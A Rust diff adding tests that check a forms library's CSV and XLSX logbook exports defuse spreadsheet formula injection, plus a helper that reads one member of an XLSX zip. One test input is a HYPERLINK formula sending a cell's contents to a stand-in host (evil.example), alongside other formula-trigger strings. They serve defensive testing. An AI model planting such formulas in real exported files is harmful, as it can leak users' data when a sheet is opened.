@@ -7,8 +7,8 @@ use std::io::Cursor;
 use calamine::{Data, DataType, Reader, Xlsx};
 use common::*;
 use motcua_forms::{
-    Form, LOGBOOK_COLUMNS, LOGBOOK_SHEET, RECEPTION_LOG_COLUMNS, RECEPTION_LOG_SHEET, logbook_csv,
-    logbook_xlsx, reception_log_csv, reception_log_xlsx,
+    Form, LOGBOOK_COLUMNS, LOGBOOK_SHEET, PetitionClass, RECEPTION_LOG_COLUMNS,
+    RECEPTION_LOG_SHEET, logbook_csv, logbook_xlsx, reception_log_csv, reception_log_xlsx,
 };
 
 fn book() -> motcua_forms::Logbook {
@@ -188,4 +188,84 @@ fn reception_log_xlsx_opens_with_numbers_and_dates() {
             .height(),
         1
     );
+}
+
+/// One member of a zip archive (an XLSX file), inflated: enough to look at `xl/styles.xml`.
+/// Sizes are read from the central directory, since the local headers may leave them to a
+/// trailing data descriptor.
+fn zip_member(zip: &[u8], name: &str) -> String {
+    let u16_at = |o: usize| usize::from(u16::from_le_bytes([zip[o], zip[o + 1]]));
+    let u32_at = |o: usize| u32::from_le_bytes(zip[o..o + 4].try_into().unwrap()) as usize;
+    let mut at = 0;
+    while let Some(i) = zip[at..].windows(4).position(|w| w == b"PK\x01\x02") {
+        let c = at + i;
+        let (method, size, name_len) = (u16_at(c + 10), u32_at(c + 20), u16_at(c + 28));
+        if &zip[c + 46..c + 46 + name_len] == name.as_bytes() {
+            let local = u32_at(c + 42);
+            let data = local + 30 + u16_at(local + 26) + u16_at(local + 28);
+            let raw = &zip[data..data + size];
+            let bytes = if method == 8 {
+                miniz_oxide::inflate::decompress_to_vec(raw).unwrap()
+            } else {
+                raw.to_vec()
+            };
+            return String::from_utf8(bytes).unwrap();
+        }
+        at = c + 4;
+    }
+    panic!("{name} not in the archive");
+}
+
+const FORMULAS: [&str; 4] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
+    "+84 913 579 246",
+    "@SUM(1+1)",
+    "\t=1+2",
+];
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_get_a_quote_and_numbers_stay_numbers() {
+    let mut row = logbook_row(CODE, FORMULAS[0]);
+    row.note = FORMULAS[2].into();
+    row.lead_agency = "-1+2".into();
+    let bytes = logbook_csv(&logbook_of(vec![row])).unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let record = reader.records().next().unwrap().unwrap();
+    assert_eq!(&record[4], format!("'{}", FORMULAS[0]));
+    assert_eq!(&record[6], "'-1+2");
+    assert_eq!(&record[12], "'@SUM(1+1)");
+    assert_eq!(&record[3], "1", "numbers are not touched");
+
+    let mut first = reception_row(FORMULAS[3], PetitionClass::Complaint);
+    first.summary = FORMULAS[1].into();
+    first.result = "-5".into();
+    let bytes = reception_log_csv(&reception_log_of(vec![first])).unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let record = reader.records().next().unwrap().unwrap();
+    assert!(record[2].starts_with("'=1+2"), "{:?}", &record[2]);
+    assert_eq!(&record[4], format!("'{}", FORMULAS[1]));
+    assert_eq!(&record[11], "-5", "a plain number stays a number");
+}
+
+#[test]
+fn xlsx_text_is_never_a_formula_and_risky_cells_carry_the_quote_prefix() {
+    let mut row = logbook_row(CODE, FORMULAS[0]);
+    row.note = FORMULAS[2].into();
+    let bytes = logbook_xlsx(&logbook_of(vec![row])).unwrap();
+    assert!(zip_member(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
+    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
+    let range = workbook.worksheet_range(LOGBOOK_SHEET).unwrap();
+    let first = range.rows().nth(1).unwrap();
+    assert_eq!(
+        first[4],
+        Data::String(FORMULAS[0].into()),
+        "the value is unchanged"
+    );
+    assert_eq!(first[12], Data::String(FORMULAS[2].into()));
+    let formulas = workbook.worksheet_formula(LOGBOOK_SHEET).unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
+
+    let first = reception_row(FORMULAS[3], PetitionClass::Complaint);
+    let bytes = reception_log_xlsx(&reception_log_of(vec![first])).unwrap();
+    assert!(zip_member(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
 }
